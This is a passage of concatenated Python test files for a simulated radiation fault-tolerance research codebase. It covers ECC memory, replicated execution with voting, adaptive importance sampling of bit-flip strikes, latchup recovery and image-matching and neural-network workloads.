        assert result.had_detected_error
        assert any(
            "replica crash: RuntimeError" in fault
            for fault in result.stats.detected_faults
        )

    def test_single_run_has_no_protection(self, workload, spec, golden):
        machine = Machine.rpi_zero2w()

        class PoisonOnce(EmrHooks):
            fired = False

            def before_job(self, runtime, job):
                if not self.fired and job.dataset_index == 3:
                    machine.cores[0].poisoned = True
                    self.fired = True

        result = single_run(
            machine, workload, spec=spec, config=_config(), hooks=PoisonOnce()
        )
        assert result.outputs != golden  # silent corruption committed
