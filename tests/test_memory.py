"""Tests for the simulated DRAM model."""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.errors import (
    AllocationError,
    InvalidAddressError,
    UncorrectableMemoryError,
)
from repro.sim import MemoryRegion, SimMemory


class TestRegions:
    def test_overlap_detection(self):
        a = MemoryRegion(0, 100)
        b = MemoryRegion(50, 100)
        c = MemoryRegion(100, 10)
        assert a.overlaps(b) and b.overlaps(a)
        assert not a.overlaps(c)

    def test_zero_size_region_overlaps_nothing(self):
        a = MemoryRegion(10, 0)
        b = MemoryRegion(0, 100)
        assert not a.overlaps(b)

    def test_subregion_bounds(self):
        region = MemoryRegion(64, 128, "blob")
        sub = region.subregion(8, 16)
        assert sub.addr == 72 and sub.size == 16
        with pytest.raises(InvalidAddressError):
            region.subregion(120, 16)

    def test_line_span(self):
        region = MemoryRegion(60, 10)  # crosses the 64-byte boundary
        assert list(region.line_span(64)) == [0, 1]


class TestAllocator:
    def test_alignment(self):
        mem = SimMemory(1024)
        a = mem.alloc(3)
        b = mem.alloc(5)
        assert a.addr % 8 == 0 and b.addr % 8 == 0
        assert not a.overlaps(b)

    def test_exhaustion(self):
        mem = SimMemory(64)
        mem.alloc(48)
        with pytest.raises(AllocationError):
            mem.alloc(32)

    def test_free_all_resets(self):
        mem = SimMemory(64)
        mem.alloc(48)
        mem.free_all()
        mem.alloc(48)  # fits again


class TestReadWrite:
    @pytest.mark.parametrize("ecc", [True, False])
    def test_roundtrip(self, ecc):
        mem = SimMemory(4096, ecc=ecc)
        region = mem.alloc(100)
        payload = bytes(range(100))
        mem.write_region(region, payload)
        assert mem.read_region(region) == payload

    def test_unaligned_partial_write(self):
        mem = SimMemory(4096)
        region = mem.alloc(32)
        mem.write_region(region, b"\xff" * 32)
        mem.write(region.addr + 3, b"abc")
        expect = b"\xff" * 3 + b"abc" + b"\xff" * 26
        assert mem.read_region(region) == expect

    def test_out_of_bounds_read(self):
        mem = SimMemory(64)
        with pytest.raises(InvalidAddressError):
            mem.read(60, 10)

    def test_oversized_region_write(self):
        mem = SimMemory(64)
        region = mem.alloc(8)
        with pytest.raises(InvalidAddressError):
            mem.write_region(region, b"123456789")

    @given(st.binary(min_size=1, max_size=200), st.integers(0, 31))
    @settings(max_examples=50)
    def test_roundtrip_property(self, payload, offset):
        mem = SimMemory(4096)
        mem.write(offset, payload)
        assert mem.read(offset, len(payload)) == payload


class TestEccBehaviour:
    def test_single_flip_corrected_and_counted(self):
        mem = SimMemory(4096, ecc=True)
        region = mem.alloc(64)
        mem.write_region(region, bytes(range(64)))
        mem.flip_bit(region.addr + 10, 3)
        assert mem.read_region(region) == bytes(range(64))
        assert mem.stats.corrected_errors == 1

    def test_correction_scrubs(self):
        mem = SimMemory(4096, ecc=True)
        region = mem.alloc(8)
        mem.write_region(region, b"ABCDEFGH")
        mem.flip_bit(region.addr, 0)
        mem.read_region(region)
        mem.read_region(region)
        assert mem.stats.corrected_errors == 1  # second read was clean

    def test_double_flip_same_word_detected(self):
        mem = SimMemory(4096, ecc=True)
        region = mem.alloc(8)
        mem.write_region(region, b"ABCDEFGH")
        mem.flip_bit(region.addr, 0)
        mem.flip_bit(region.addr + 4, 7)
        with pytest.raises(UncorrectableMemoryError):
            mem.read_region(region)
        assert mem.stats.detected_errors >= 1

    def test_flips_in_different_words_both_corrected(self):
        mem = SimMemory(4096, ecc=True)
        region = mem.alloc(64)
        mem.write_region(region, bytes(64))
        mem.flip_bit(region.addr + 1, 0)
        mem.flip_bit(region.addr + 33, 5)
        assert mem.read_region(region) == bytes(64)
        assert mem.stats.corrected_errors == 2

    def test_non_ecc_flip_is_silent(self):
        mem = SimMemory(4096, ecc=False)
        region = mem.alloc(8)
        mem.write_region(region, b"\x00" * 8)
        mem.flip_bit(region.addr, 0)
        assert mem.read_region(region) == b"\x01" + b"\x00" * 7
        assert mem.stats.corrected_errors == 0

    def test_check_bit_flip_corrected(self):
        mem = SimMemory(4096, ecc=True)
        region = mem.alloc(8)
        mem.write_region(region, b"12345678")
        mem.flip_check_bit(region.addr // 8, 2)
        assert mem.read_region(region) == b"12345678"
        assert mem.stats.corrected_errors == 1

    def test_partial_overwrite_of_flipped_word_scrubs_first(self):
        mem = SimMemory(4096, ecc=True)
        region = mem.alloc(8)
        mem.write_region(region, b"ABCDEFGH")
        mem.flip_bit(region.addr, 0)  # corrupt byte 0
        mem.write(region.addr + 4, b"wxyz")  # partial word write
        assert mem.read_region(region) == b"ABCDwxyz"

    def test_scrub_fixes_everything(self):
        mem = SimMemory(4096, ecc=True)
        region = mem.alloc(256)
        payload = bytes(np.random.default_rng(0).integers(0, 256, 256, dtype=np.uint8))
        mem.write_region(region, payload)
        for offset in (0, 64, 128):
            mem.flip_bit(region.addr + offset, 1)
        assert mem.scrub() == 3
        assert mem.read_region(region) == payload

    def test_peek_bypasses_correction(self):
        mem = SimMemory(4096, ecc=True)
        region = mem.alloc(8)
        mem.write_region(region, b"\x00" * 8)
        mem.flip_bit(region.addr, 0)
        assert mem.peek(region.addr, 1) == b"\x01"
