"""The adaptive sampler: features, HT estimator, and the closed loop.

The statistical property under test is *unbiasedness despite bias*:
the sampler deliberately skews where strikes land (importance
sampling toward predicted-sensitive cells), and the Horvitz–Thompson
weights must exactly cancel that skew so the SDC-rate estimate still
targets the uniform flux-weighted rate. The smoke surface makes this
checkable: its true rate is known in closed form.
"""

import math
from dataclasses import replace

import numpy as np
import pytest

from repro.adaptive import (
    AdaptiveConfig,
    AdaptiveSource,
    FEATURE_NAMES,
    HTEstimate,
    SURFACES,
    build_source,
    cells_from_census,
    feature_matrix,
    ht_estimate,
    make_smoke_source,
    normal_quantile,
    smoke_census,
    smoke_sensitivity,
)
from repro.adaptive.smoke import smoke_trial
from repro.campaign.stream import StreamHistory, execute_stream, stream_status
from repro.errors import ConfigurationError


class TestFeatures:
    def test_cells_cover_every_live_bit_exactly_once(self):
        census = smoke_census()
        cells = cells_from_census(census, band_bits=1 << 14, max_bands=4)
        total = sum(entry.region.bits for entry in census)
        assert sum(cell.bits for cell in cells) == total
        # Bands within a region tile it without gaps or overlap.
        by_region = {}
        for cell in cells:
            by_region.setdefault((cell.domain, cell.region), []).append(cell)
        for group in by_region.values():
            group.sort(key=lambda c: c.band)
            assert group[0].start_bit == 0
            for prev, nxt in zip(group, group[1:]):
                assert prev.start_bit + prev.bits == nxt.start_bit

    def test_feature_matrix_shape_and_labels(self):
        cells = cells_from_census(smoke_census())
        matrix = feature_matrix(cells)
        assert matrix.shape == (len(cells), len(FEATURE_NAMES))
        assert len({cell.label for cell in cells}) == len(cells)

    def test_zero_bit_regions_dropped(self):
        from repro.sim.faults import CensusEntry, FaultRegion

        entries = (
            CensusEntry("dram", FaultRegion("empty", 0, "none", "shared")),
            CensusEntry("dram", FaultRegion("live", 64, "none", "shared")),
        )
        cells = cells_from_census(entries)
        assert [cell.region for cell in cells] == ["live"]


class TestEstimator:
    def test_normal_quantile(self):
        # Reference values to 1e-6 (Abramowitz & Stegun table).
        assert abs(normal_quantile(0.975) - 1.959964) < 1e-5
        assert abs(normal_quantile(0.995) - 2.575829) < 1e-5
        assert abs(normal_quantile(0.5)) < 1e-12
        assert abs(normal_quantile(0.025) + 1.959964) < 1e-5

    def test_uniform_weights_reduce_to_sample_mean(self):
        ys = [1.0, 0.0, 0.0, 1.0, 1.0]
        est = ht_estimate([(y, 1.0) for y in ys])
        assert est.n == 5
        assert abs(est.estimate - np.mean(ys)) < 1e-12
        se = np.std([y for y in ys], ddof=1) / math.sqrt(5)
        assert abs(est.se - se) < 1e-12
        lo, hi = est.interval
        assert abs((hi - lo) - est.width) < 1e-12

    def test_degenerate_sizes(self):
        assert ht_estimate([]).n == 0
        one = ht_estimate([(1.0, 2.0)])
        assert one.n == 1 and one.estimate == 2.0
        assert one.width == float("inf")

    def test_to_dict_round_trips(self):
        est = ht_estimate([(1.0, 0.5), (0.0, 2.0), (1.0, 1.0)])
        d = est.to_dict()
        assert d["n"] == 3
        assert isinstance(est, HTEstimate)


class TestConfigValidation:
    @pytest.mark.parametrize("kwargs", [
        {"wave_size": 0},
        {"max_rounds": 0},
        {"min_rounds": 5, "max_rounds": 4},
        {"epsilon": 1.5},
        {"epsilon": -0.1},
        {"target_width": 0.0},
        {"confidence": 1.0},
        {"score_floor": 0.7},
        {"min_positives": -1},
    ])
    def test_rejects(self, kwargs):
        with pytest.raises(ConfigurationError):
            AdaptiveConfig(**kwargs)

    def test_source_rejects_empty_cells(self):
        with pytest.raises(ConfigurationError, match="cell"):
            AdaptiveSource(
                "empty", [], smoke_trial, lambda c, o, b: {}, bool,
            )


def _drain(seed, *, uniform=False, store=None, workers=None, **overrides):
    source, true_rate = build_source("smoke", seed=seed, uniform=uniform,
                                     **overrides)
    result = execute_stream(source, store=store, workers=workers)
    history = StreamHistory(list(result.rounds))
    return source, result, source.estimate(history), true_rate


class TestSmokeSurface:
    def test_true_rate_matches_hand_sum(self):
        source, true_rate = make_smoke_source()
        hand = sum(
            float(f) * smoke_sensitivity(cell)
            for f, cell in zip(source.flux, source.cells)
        )
        assert abs(true_rate - hand) < 1e-12
        assert 0.0 < true_rate < 0.1

    def test_uniform_baseline_never_trains(self):
        source, _ = build_source("smoke", uniform=True)
        assert source.config.epsilon == 1.0
        # Whatever the history, the proposal is the flux distribution.
        assert np.array_equal(source.proposal(StreamHistory()), source.flux)
        assert source.name.endswith("-uniform")

    def test_surfaces_catalog(self):
        assert set(SURFACES) == {"smoke", "table7"}
        with pytest.raises(ConfigurationError, match="unknown surface"):
            build_source("nope")


class TestAdaptiveLoop:
    def test_beats_uniform_by_half_on_pinned_seed(self):
        _, adaptive, a_est, true_rate = _drain(0)
        _, uniform, u_est, _ = _drain(0, uniform=True)
        assert adaptive.trials <= uniform.trials / 2
        # Both estimates must still cover the truth.
        assert abs(a_est.estimate - true_rate) <= a_est.width
        assert abs(u_est.estimate - true_rate) <= u_est.width

    def test_proposal_concentrates_on_hot_cells(self):
        source, result, _, _ = _drain(0)
        history = StreamHistory(list(result.rounds))
        q = source.proposal(history)
        hot = [
            i for i, cell in enumerate(source.cells)
            if smoke_sensitivity(cell) > 0
        ]
        # The hot cells carry under 4% of the flux; the trained
        # proposal must overweight them several-fold.
        flux_mass = source.flux[hot].sum()
        assert flux_mass < 0.05
        assert q[hot].sum() > 3.0 * flux_mass
        assert abs(q.sum() - 1.0) < 1e-9
        # Every flux-bearing cell keeps epsilon-floor mass.
        assert np.all(q >= source.config.epsilon * source.flux - 1e-12)

    def test_min_positives_guard_blocks_early_stop(self):
        # With the guard off, a stream that sees zero positives would
        # stop the moment the (degenerate, zero-variance) width test
        # passes; the guard keeps it striking.
        config = AdaptiveConfig(
            wave_size=8, max_rounds=6, min_rounds=2, target_width=0.5,
            epsilon=1.0, min_positives=10,
        )
        cells = cells_from_census(smoke_census(), band_bits=1 << 14,
                                  max_bands=4)

        def cold_item(cell, offset, bit):
            return {"p": 0.0}  # no strike ever upsets anything

        source = AdaptiveSource(
            "all-cold", cells, smoke_trial, cold_item, lambda v: v["sdc"],
            config=config, seed=1,
        )
        result = execute_stream(source)
        assert len(result.rounds) == config.max_rounds

    def test_mid_round_resume_byte_identical(self, tmp_path):
        _, cold, cold_est, _ = _drain(3, max_rounds=3, target_width=0)
        from repro.campaign import TrialStore

        store = TrialStore(tmp_path)
        _, first, _, _ = _drain(3, max_rounds=3, target_width=0, store=store)
        assert first.digest == cold.digest
        # Kill mid-round: drop entries from the last round.
        for spec in first.rounds[-1].result.specs[::2]:
            fp = spec.fingerprint
            (tmp_path / fp[:2] / f"{fp}.json").unlink()
        source, resumed, res_est, _ = _drain(
            3, max_rounds=3, target_width=0, store=store
        )
        assert resumed.digest == cold.digest
        assert resumed.values == cold.values
        assert res_est.estimate == cold_est.estimate
        assert resumed.executed > 0 and resumed.store_hits > 0
        st = stream_status(source, store)
        assert st.exhausted and st.trials_stored == cold.trials

    def test_pooled_equals_serial(self):
        _, serial, _, _ = _drain(2, max_rounds=2, target_width=0)
        _, pooled, _, _ = _drain(2, max_rounds=2, target_width=0, workers=2)
        assert pooled.digest == serial.digest

    def test_estimate_from_replayed_specs_alone(self, tmp_path):
        # The estimator reads f/q from stored params, so a pure store
        # replay reproduces the estimate without any re-planning.
        from repro.campaign import TrialStore

        store = TrialStore(tmp_path)
        _, live, live_est, _ = _drain(4, max_rounds=2, target_width=0,
                                      store=store)
        source, replayed, rep_est, _ = _drain(
            4, max_rounds=2, target_width=0, store=store
        )
        assert replayed.executed == 0
        assert rep_est.to_dict() == live_est.to_dict()


class TestUnbiasedness:
    def test_ht_estimate_unbiased_over_seeds(self):
        # Mean of per-seed estimates must converge on the closed-form
        # rate. 30 short adaptive streams, each heavily skewed toward
        # the hot cells — only correct reweighting lands this close.
        estimates = []
        true_rate = None
        for seed in range(30):
            _, _, est, true_rate = _drain(
                seed, max_rounds=4, target_width=0, wave_size=24,
            )
            estimates.append(est.estimate)
        mean = float(np.mean(estimates))
        se = float(np.std(estimates, ddof=1) / math.sqrt(len(estimates)))
        assert abs(mean - true_rate) <= 3.0 * se, (
            f"mean {mean:.4f} vs true {true_rate:.4f} (3*SE {3 * se:.4f})"
        )

    def test_weights_follow_stored_proposal(self):
        source, result, _, _ = _drain(0, max_rounds=3, target_width=0)
        for rnd in result.rounds:
            for spec in rnd.result.specs:
                f, q = spec.params["f"], spec.params["q"]
                assert f > 0 and q > 0
                # Defensive mixture bounds the weight by 1/epsilon.
                assert f / q <= 1.0 / source.config.epsilon + 1e-9
