"""Property-based tests over randomized structures (hypothesis).

These go beyond the per-module unit tests: EMR's planning pipeline is
run against *arbitrary* dataset/region structures and checked against
brute-force oracles, and the full runtime must produce golden outputs
for any generated workload shape.
"""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.core.emr import (
    EmrConfig,
    EmrRuntime,
    build_jobsets,
    crc32,
    detect_conflicts,
    order_jobs,
    plan_replication,
    validate_jobsets,
    vote,
)
from repro.core.emr.jobs import JobResult
from repro.core.ild import RollingMinimumFilter
from repro.sim import Machine, SimMemory
from repro.workloads.base import DatasetSpec, RegionRef, Workload, WorkloadSpec

# ----------------------------------------------------------------------
# Strategies
# ----------------------------------------------------------------------

BLOB_SIZE = 2048

region_refs = st.builds(
    RegionRef,
    blob=st.sampled_from(["alpha", "beta"]),
    offset=st.integers(min_value=0, max_value=BLOB_SIZE - 64),
    length=st.integers(min_value=1, max_value=64),
)


@st.composite
def dataset_lists(draw, min_datasets=2, max_datasets=8):
    count = draw(st.integers(min_datasets, max_datasets))
    datasets = []
    for index in range(count):
        n_regions = draw(st.integers(1, 3))
        regions = {
            f"r{j}": draw(region_refs) for j in range(n_regions)
        }
        datasets.append(DatasetSpec(index=index, regions=regions))
    return datasets


def _line_set(ds, replicated, line_size=64):
    lines = set()
    for ref in ds.regions.values():
        if ref in replicated:
            continue
        first, last = ref.line_range(line_size)
        lines.update((ref.blob, line) for line in range(first, last + 1))
    return lines


class TestConflictOracle:
    @given(dataset_lists(), st.sampled_from([0.0, 0.4, 1.5]))
    @settings(max_examples=60, deadline=None)
    def test_matches_bruteforce(self, datasets, threshold):
        plan = plan_replication(datasets, threshold)
        graph = detect_conflicts(datasets, set(plan.replicated), line_size=64)
        for a in datasets:
            for b in datasets:
                if a.index >= b.index:
                    continue
                expected = bool(
                    _line_set(a, plan.replicated) & _line_set(b, plan.replicated)
                )
                assert graph.conflicts(a.index, b.index) == expected, (a, b)

    @given(dataset_lists())
    @settings(max_examples=40, deadline=None)
    def test_graph_is_symmetric_and_irreflexive(self, datasets):
        graph = detect_conflicts(datasets, set(), line_size=64)
        for index, neighbours in graph.neighbours.items():
            assert index not in neighbours
            for other in neighbours:
                assert graph.conflicts(other, index)


class TestSchedulerProperties:
    @given(dataset_lists(), st.sampled_from(["rotated", "naive"]))
    @settings(max_examples=50, deadline=None)
    def test_jobsets_valid_and_complete(self, datasets, ordering):
        plan = plan_replication(datasets, 0.4)
        graph = detect_conflicts(datasets, set(plan.replicated), line_size=64)
        jobs = order_jobs(datasets, 3, ordering)
        jobsets = build_jobsets(jobs, graph)
        validate_jobsets(jobsets, graph)  # invariant holds by construction
        scheduled = sorted(
            (job.dataset_index, job.executor_id)
            for jobset in jobsets
            for job in jobset.jobs
        )
        expected = sorted(
            (ds.index, e) for ds in datasets for e in range(3)
        )
        assert scheduled == expected  # every replica exactly once

    @given(dataset_lists())
    @settings(max_examples=30, deadline=None)
    def test_replicating_everything_gives_three_jobsets(self, datasets):
        plan = plan_replication(datasets, 0.0)
        graph = detect_conflicts(datasets, set(plan.replicated), line_size=64)
        jobs = order_jobs(datasets, 3, "rotated")
        jobsets = build_jobsets(jobs, graph)
        # No conflicts remain; only replica-separation forces 3 jobsets.
        assert len(jobsets) == 3


class TestVotingProperties:
    @given(
        st.lists(st.binary(min_size=1, max_size=8), min_size=3, max_size=3),
        st.permutations([0, 1, 2]),
    )
    @settings(max_examples=80, deadline=None)
    def test_permutation_invariant(self, outputs, order):
        results = [JobResult(0, e, outputs[e]) for e in range(3)]
        shuffled = [results[i] for i in order]
        assert vote(results).output == vote(shuffled).output
        assert vote(results).status == vote(shuffled).status

    @given(st.binary(min_size=1, max_size=16), st.binary(min_size=1, max_size=16))
    @settings(max_examples=50, deadline=None)
    def test_majority_always_wins(self, majority_output, minority_output):
        if majority_output == minority_output:
            return
        results = [
            JobResult(0, 0, majority_output),
            JobResult(0, 1, minority_output),
            JobResult(0, 2, majority_output),
        ]
        outcome = vote(results)
        assert outcome.output == majority_output


class _DigestWorkload(Workload):
    """Synthetic workload over arbitrary generated specs: each job
    CRC-chains its inputs, so any input corruption changes the output."""

    name = "digest"

    def __init__(self, datasets):
        self._datasets = datasets

    def build(self, rng, scale: int = 1) -> WorkloadSpec:
        blobs = {
            "alpha": bytes(rng.integers(0, 256, BLOB_SIZE, dtype=np.uint8)),
            "beta": bytes(rng.integers(0, 256, BLOB_SIZE, dtype=np.uint8)),
        }
        return WorkloadSpec(
            name=self.name, blobs=blobs, datasets=self._datasets, output_size=16
        )

    def run_job(self, inputs, params):
        digest = 0
        for role in sorted(inputs):
            digest = crc32(inputs[role], digest)
        return digest.to_bytes(4, "little") + len(inputs).to_bytes(4, "little")


class TestEmrEndToEndProperty:
    @given(dataset_lists(max_datasets=6), st.sampled_from([0.0, 0.4, 1.5]))
    @settings(max_examples=15, deadline=None)
    def test_any_structure_yields_golden_outputs(self, datasets, threshold):
        workload = _DigestWorkload(datasets)
        spec = workload.build(np.random.default_rng(0))
        golden = workload.reference_outputs(spec)
        machine = Machine(seed=0)
        runtime = EmrRuntime(
            machine, workload,
            config=EmrConfig(replication_threshold=threshold),
        )
        result = runtime.run(spec=spec)
        assert result.outputs == golden


class TestMemoryProperties:
    @given(st.lists(st.integers(min_value=0, max_value=300), min_size=1, max_size=20))
    @settings(max_examples=40, deadline=None)
    def test_allocations_never_overlap(self, sizes):
        memory = SimMemory(64 << 10)
        regions = [memory.alloc(size) for size in sizes]
        live = [r for r in regions if r.size]
        for i, a in enumerate(live):
            for b in live[i + 1 :]:
                assert not a.overlaps(b)

    @given(
        st.binary(min_size=8, max_size=64).filter(lambda b: len(b) % 8 == 0),
        st.integers(min_value=0, max_value=63),
        st.integers(min_value=0, max_value=7),
    )
    @settings(max_examples=60, deadline=None)
    def test_single_flip_always_corrected(self, payload, byte_offset, bit):
        memory = SimMemory(4096, ecc=True)
        region = memory.alloc(len(payload))
        memory.write_region(region, payload)
        memory.flip_bit(region.addr + (byte_offset % len(payload)), bit)
        assert memory.read_region(region) == payload


class TestSupervisedRecoveryProperty:
    """S4: for *any* latchup schedule, the supervised power-cycle
    response restores baseline current and empties the injector."""

    @given(
        st.lists(
            st.tuples(
                st.floats(min_value=0.05, max_value=0.5, allow_nan=False),
                st.floats(min_value=0.0, max_value=600.0, allow_nan=False),
            ),
            min_size=1,
            max_size=6,
        ),
        st.integers(min_value=1, max_value=3),
    )
    @settings(max_examples=25, deadline=None)
    def test_any_latchup_schedule_is_recovered(self, schedule, batch):
        from repro.radiation.sel import LatchupInjector
        from repro.recovery import RecoverySupervisor, SupervisorConfig

        machine = Machine(seed=0)
        injector = LatchupInjector(machine)
        supervisor = RecoverySupervisor(
            machine, config=SupervisorConfig(retry_backoff_seconds=1.0)
        )
        pending = list(schedule)
        while pending:
            # Latch up to `batch` overlapping shorts, gaps apart...
            for delta, gap in pending[:batch]:
                machine.clock.advance(gap)
                injector.induce_delta(delta)
            pending = pending[batch:]
            assert machine.extra_current_draw > 0
            # ...then run the supervised response for the alarm.
            outcome = supervisor.handle_alarm()
            assert outcome.recovered
            assert machine.extra_current_draw == 0.0
            assert not injector.any_active
            assert injector.total_extra_current == 0.0
        assert injector.cleared_count == len(schedule)


class TestFilterProperties:
    @given(
        st.lists(
            st.floats(min_value=0.0, max_value=10.0, allow_nan=False),
            min_size=1,
            max_size=200,
        ),
        st.integers(min_value=0, max_value=8),
    )
    @settings(max_examples=60, deadline=None)
    def test_output_never_exceeds_input(self, samples, halfwidth):
        samples = np.array(samples)
        filtered = RollingMinimumFilter(halfwidth).apply(samples)
        assert (filtered <= samples + 1e-12).all()
        assert filtered.min() >= samples.min() - 1e-12

    @given(
        st.floats(min_value=0.1, max_value=5.0, allow_nan=False),
        st.integers(min_value=1, max_value=8),
    )
    @settings(max_examples=30, deadline=None)
    def test_constant_signal_unchanged(self, level, halfwidth):
        samples = np.full(50, level)
        filtered = RollingMinimumFilter(halfwidth).apply(samples)
        assert np.allclose(filtered, level)
