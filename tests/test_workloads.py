"""Tests for workload specs, image matching, DNN, matmul, registry."""

import struct

import numpy as np
import pytest

from repro.errors import ConfigurationError, WorkloadError
from repro.workloads import (
    ALL_WORKLOADS,
    DnnWorkload,
    ImageProcessingWorkload,
    MatmulWorkload,
    PAPER_WORKLOADS,
    RegionRef,
    make_workload,
    navigation_schedule,
    paper_workloads,
    staircase_schedule,
)
from repro.workloads.base import DatasetSpec, Workload, WorkloadSpec
from repro.workloads.dnn import Mlp
from repro.workloads.imageproc import (
    batch_match_scores,
    extract_windows,
    make_terrain,
    match_scores,
    search_template,
)


class TestRegionRef:
    def test_overlap_same_blob(self):
        a = RegionRef("x", 0, 10)
        b = RegionRef("x", 5, 10)
        c = RegionRef("x", 10, 10)
        assert a.overlaps(b) and not a.overlaps(c)

    def test_no_overlap_across_blobs(self):
        assert not RegionRef("x", 0, 10).overlaps(RegionRef("y", 0, 10))

    def test_line_range(self):
        assert RegionRef("x", 60, 10).line_range(64) == (0, 1)
        assert RegionRef("x", 64, 64).line_range(64) == (1, 1)

    def test_invalid(self):
        with pytest.raises(ConfigurationError):
            RegionRef("x", -1, 10)
        with pytest.raises(ConfigurationError):
            RegionRef("x", 0, 0)


class TestWorkloadSpecValidation:
    def test_unknown_blob_rejected(self):
        with pytest.raises(ConfigurationError):
            WorkloadSpec(
                name="t",
                blobs={"a": b"1234"},
                datasets=[DatasetSpec(0, {"r": RegionRef("missing", 0, 2)})],
                output_size=4,
            )

    def test_overrun_rejected(self):
        with pytest.raises(ConfigurationError):
            WorkloadSpec(
                name="t",
                blobs={"a": b"1234"},
                datasets=[DatasetSpec(0, {"r": RegionRef("a", 2, 8)})],
                output_size=4,
            )

    def test_slice_inputs(self):
        spec = WorkloadSpec(
            name="t",
            blobs={"a": b"hello world"},
            datasets=[DatasetSpec(0, {"r": RegionRef("a", 6, 5)})],
            output_size=4,
        )
        assert spec.slice_inputs(spec.datasets[0]) == {"r": b"world"}


class TestImageProcessing:
    def test_localization_finds_true_window(self):
        workload = ImageProcessingWorkload(map_size=64, template_size=16, stride=4)
        rng = np.random.default_rng(0)
        spec = workload.build(rng)
        outputs = workload.reference_outputs(spec)
        ncc, row, col = ImageProcessingWorkload.best_match(outputs)
        assert ncc > 0.85
        # The true origin may fall between strides; winner within a stride.
        candidates = [
            struct.unpack("<ddII", o) for o in outputs
        ]
        best = max(candidates, key=lambda t: t[0])
        assert best[0] == pytest.approx(ncc)

    def test_windows_are_row_regions(self):
        workload = ImageProcessingWorkload(map_size=48, template_size=12, stride=12)
        spec = workload.build(np.random.default_rng(1))
        ds = spec.datasets[0]
        assert sum(1 for role in ds.regions if role.startswith("row")) == 12
        assert ds.regions["row1"].offset - ds.regions["row0"].offset == 48

    def test_template_shared(self):
        workload = ImageProcessingWorkload(map_size=48, template_size=12, stride=12)
        spec = workload.build(np.random.default_rng(2))
        refs = {ds.regions["template"] for ds in spec.datasets}
        assert len(refs) == 1

    def test_match_scores_identity(self):
        rng = np.random.default_rng(3)
        image = rng.integers(0, 256, (8, 8)).astype(np.uint8)
        ncc, sad = match_scores(image, image)
        assert ncc == pytest.approx(1.0)
        assert sad == 0.0

    def test_match_scores_shape_mismatch(self):
        with pytest.raises(WorkloadError):
            match_scores(np.zeros((4, 4), np.uint8), np.zeros((5, 5), np.uint8))

    def test_terrain_properties(self):
        terrain = make_terrain(np.random.default_rng(4), 32, 48)
        assert terrain.shape == (32, 48)
        assert terrain.dtype == np.uint8
        assert terrain.std() > 10  # textured, not flat

    def test_corrupted_pixel_changes_score(self):
        workload = ImageProcessingWorkload(map_size=48, template_size=12, stride=12)
        spec = workload.build(np.random.default_rng(5))
        ds = spec.datasets[0]
        inputs = spec.slice_inputs(ds)
        good = workload.run_job(inputs, dict(ds.params))
        bad_row = bytearray(inputs["row3"])
        bad_row[4] ^= 0x80
        bad = workload.run_job({**inputs, "row3": bytes(bad_row)}, dict(ds.params))
        assert good != bad


class TestBatchedImageKernels:
    """The vectorized search path must match the scalar loop exactly."""

    def test_batch_match_scores_bit_identical(self):
        rng = np.random.default_rng(6)
        template = rng.integers(0, 256, (12, 12), dtype=np.uint8)
        windows = rng.integers(0, 256, (57, 12, 12), dtype=np.uint8)
        ncc, sad = batch_match_scores(windows, template)
        for i in range(len(windows)):
            scalar_ncc, scalar_sad = match_scores(windows[i], template)
            assert ncc[i] == scalar_ncc  # bit-identical, not approx
            assert sad[i] == scalar_sad

    def test_batch_shape_mismatch(self):
        with pytest.raises(WorkloadError):
            batch_match_scores(
                np.zeros((3, 4, 4), np.uint8), np.zeros((5, 5), np.uint8)
            )

    def test_extract_windows(self):
        terrain = make_terrain(np.random.default_rng(7), 40, 40)
        rows = np.array([0, 3, 17])
        cols = np.array([5, 0, 21])
        windows = extract_windows(terrain, rows, cols, 8)
        assert windows.shape == (3, 8, 8)
        for k in range(3):
            expected = terrain[rows[k] : rows[k] + 8, cols[k] : cols[k] + 8]
            assert np.array_equal(windows[k], expected)

    def test_search_template_finds_crop(self):
        terrain = make_terrain(np.random.default_rng(8), 64, 64)
        template = terrain[20:36, 40:56].copy()
        ncc, sad = search_template(terrain, template, stride=1)
        assert ncc.shape == (49, 49)
        row, col = np.unravel_index(np.argmax(ncc), ncc.shape)
        assert (row, col) == (20, 40)
        assert sad[row, col] == 0.0

    def test_search_template_validation(self):
        terrain = np.zeros((16, 16), np.uint8)
        with pytest.raises(WorkloadError):
            search_template(terrain, np.zeros((3, 4), np.uint8))
        with pytest.raises(WorkloadError):
            search_template(terrain, np.zeros((4, 4), np.uint8), stride=0)

    def test_reference_outputs_match_base_loop(self):
        workload = ImageProcessingWorkload(
            map_size=48, template_size=12, stride=6
        )
        spec = workload.build(np.random.default_rng(9))
        assert workload.reference_outputs(spec) == Workload.reference_outputs(
            workload, spec
        )

    def test_best_match(self):
        workload = ImageProcessingWorkload(
            map_size=48, template_size=12, stride=12
        )
        spec = workload.build(np.random.default_rng(10))
        outputs = workload.reference_outputs(spec)
        ncc, row, col = ImageProcessingWorkload.best_match(outputs)
        records = [struct.unpack("<ddII", o) for o in outputs]
        best = max(records, key=lambda r: r[0])
        assert (ncc, row, col) == (best[0], best[2], best[3])

    def test_best_match_empty(self):
        assert ImageProcessingWorkload.best_match([]) == (-2.0, -1, -1)

    def test_best_match_tie_prefers_first(self):
        tie = [
            struct.pack("<ddII", 0.5, 1.0, 1, 2),
            struct.pack("<ddII", 0.5, 0.0, 3, 4),
        ]
        assert ImageProcessingWorkload.best_match(tie) == (0.5, 1, 2)


class TestDnn:
    def test_serialize_roundtrip(self):
        model = Mlp((8, 6, 3))
        params = model.init_params(np.random.default_rng(0))
        recovered = model.deserialize(model.serialize(params))
        for (w1, b1), (w2, b2) in zip(params, recovered):
            assert np.array_equal(w1, w2) and np.array_equal(b1, b2)

    def test_forward_is_distribution(self):
        model = Mlp((8, 6, 3))
        params = model.init_params(np.random.default_rng(1))
        probs = model.forward(np.ones(8), params)
        assert probs.shape == (3,)
        assert probs.sum() == pytest.approx(1.0)
        assert (probs >= 0).all()

    def test_truncated_weights_detected(self):
        model = Mlp((8, 6, 3))
        blob = model.serialize(model.init_params(np.random.default_rng(2)))
        with pytest.raises(WorkloadError):
            model.deserialize(blob[:-8])

    def test_workload_windows_overlap(self):
        workload = DnnWorkload(window_samples=32, stride=8, windows=6)
        spec = workload.build(np.random.default_rng(3))
        first = spec.datasets[0].regions["window"]
        second = spec.datasets[1].regions["window"]
        assert first.overlaps(second)

    def test_weights_shared(self):
        workload = DnnWorkload(windows=5)
        spec = workload.build(np.random.default_rng(4))
